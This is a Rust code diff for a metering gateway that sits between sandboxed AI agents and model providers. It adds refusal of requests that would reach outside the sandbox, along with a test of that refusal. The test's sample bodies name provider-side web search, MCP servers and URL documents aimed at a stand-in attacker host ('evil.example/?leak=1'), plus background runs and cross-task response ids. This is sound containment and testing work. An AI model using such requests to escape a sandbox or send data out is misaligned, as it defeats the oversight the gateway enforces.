@@ -16,7 +16,9 @@
 //! budget, which ends it. When the call ends the reservation is settled to the usage the upstream
 //! reported; a stream that ends before its usage is complete (the agent hung up, the upstream
 //! broke off) is charged its whole reservation; an upstream error without usage releases it.
-//! Rates come from the controller's price table with each lease ([`proto::prices`]).
+//! Rates come from the controller's price table with each lease ([`proto::prices`]). A body that
+//! would make the provider act outside the conversation — its own tools, fetched content, state
+//! kept on its side — is refused before anything is reserved ([`crate::model_requests`]).
 
 use std::collections::HashMap;
 use std::sync::{Arc, Mutex};
@@ -510,6 +512,14 @@ async fn forward(State(gw): State<Inner>, req: Request) -> Response {
         );
     };
     let request = serde_json::from_slice::<Value>(&body).unwrap_or(Value::Null);
+    if let Some(why) = crate::model_requests::refusal(api, &request) {
+        let mut tasks = gw.tasks.lock().expect("gateway lock");
+        if let Some(m) = tasks.get_mut(&token) {
+            m.used.refused += 1;
+        }
+        tracing::warn!(task = task_id, reason = %why, "a sandbox's model request was refused");
+        return refuse(StatusCode::FORBIDDEN, "permission_error", &why);
+    }
     let model = request
         .get("model")
         .and_then(Value::as_str)
@@ -641,7 +651,12 @@ async fn forward(State(gw): State<Inner>, req: Request) -> Response {
         if let Some(r) = reservation.as_mut() {
             let reported = serde_json::from_slice::<Value>(&bytes)
                 .ok()
-                .and_then(|v| v.get("usage").map(Usage::from_json));
+                // `usage: null` (a call the upstream goes on with) is no usage: charged whole.
+                .and_then(|v| {
+                    v.get("usage")
+                        .filter(|u| u.is_object())
+                        .map(Usage::from_json)
+                });
             match reported {
                 Some(mut usage) if status.is_success() => {
                     usage.done = true;
@@ -1126,6 +1141,102 @@ mod tests {
         let url = format!("http://{}", listener.local_addr().unwrap());
         tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
         (url, seen)
+    }
+
+    /// The agent asks the provider to act for it — search the web, reach an MCP server, fetch a
+    /// URL, run in the background: refused before anything is reserved, and nothing reaches an
+    /// upstream. A success that reports `usage: null` is charged its whole reservation.
+    #[tokio::test]
+    async fn requests_that_reach_past_the_sandbox_never_leave_it() {
+        let up = upstream().await;
+        let (openai, seen) = openai_upstream().await;
+        let gw = Gateway::new(&up.url, Credential::ApiKey("sk-ant-real".into()))
+            .unwrap()
+            .with_responses(&openai, "sk-openai-real");
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let url = format!("http://{}", listener.local_addr().unwrap());
+        gw.serve_tcp(listener);
+        let claude = gw.register(1, 50_000_000, Prices::default());
+        let codex = gw.register_api(2, 50_000_000, Prices::default(), Api::Responses);
+        let http = reqwest::Client::new();
+        for body in [
+            json!({"model": "sonnet", "max_tokens": 100, "messages": [],
+                   "tools": [{"type": "web_search_20250305", "name": "web_search", "max_uses": 5}]}),
+            json!({"model": "sonnet", "max_tokens": 100, "messages": [],
+                   "mcp_servers": [{"type": "url", "url": "https://evil.example/mcp", "name": "x"}]}),
+            json!({"model": "sonnet", "max_tokens": 100, "messages": [{"role": "user", "content": [
+                   {"type": "document", "source": {"type": "url", "url": "https://evil.example/?leak=1"}}]}]}),
+        ] {
+            let resp = http
+                .post(format!("{url}/v1/messages"))
+                .header("x-api-key", claude.token())
+                .header("anthropic-beta", "mcp-client-2025-04-04")
+                .json(&body)
+                .send()
+                .await
+                .unwrap();
+            assert_eq!(resp.status(), 403, "{body}");
+            assert!(resp.text().await.unwrap().contains("not forwarded"));
+        }
+        for body in [
+            json!({"model": "gpt-5.5", "background": true, "input": []}),
+            json!({"model": "gpt-5.5", "input": [], "tools": [{"type": "mcp", "server_url": "https://evil.example"}]}),
+            json!({"model": "gpt-5.5", "input": [], "previous_response_id": "resp_other_task"}),
+        ] {
+            let resp = http
+                .post(format!("{url}/v1/responses"))
+                .bearer_auth(codex.token())
+                .json(&body)
+                .send()
+                .await
+                .unwrap();
+            assert_eq!(resp.status(), 403, "{body}");
+        }
+        assert_eq!(
+            up.hits.load(Ordering::SeqCst),
+            0,
+            "nothing reached the Messages API"
+        );
+        assert!(
+            seen.lock().unwrap().is_empty(),
+            "nothing reached the Responses API"
+        );
+        assert_eq!((claude.used().refused, codex.used().refused), (3, 3));
+        assert_eq!(
+            claude.used().reserved_microusd + codex.used().reserved_microusd,
+            0.0
+        );
+
+        // An upstream that answers a success with `usage: null`: the call is charged whole.
+        let app = Router::new().fallback(|| async {
+            axum::Json(json!({"id": "resp_1", "status": "in_progress", "usage": null}))
+        });
+        let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let null_usage = format!("http://{}", l.local_addr().unwrap());
+        tokio::spawn(async move { axum::serve(l, app).await.unwrap() });
+        let gw = Gateway::new(&up.url, Credential::ApiKey("sk-ant-real".into()))
+            .unwrap()
+            .with_responses(&null_usage, "sk-openai-real");
+        let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let url = format!("http://{}", l.local_addr().unwrap());
+        gw.serve_tcp(l);
+        let prices = Prices::default();
+        let codex = gw.register_api(3, 50_000_000, prices.clone(), Api::Responses);
+        let body = json!({"model": "gpt-5.5", "max_output_tokens": 2000, "input": []}).to_string();
+        let resp = http
+            .post(format!("{url}/v1/responses"))
+            .bearer_auth(codex.token())
+            .header(header::CONTENT_TYPE, "application/json")
+            .body(body.clone())
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(resp.status(), 200);
+        assert_eq!(
+            codex.used().cost_microusd,
+            worst_case(&prices.of("gpt-5.5"), body.len(), 2000),
+            "no usage reported: charged the whole reservation"
+        );
     }
 
     #[tokio::test]
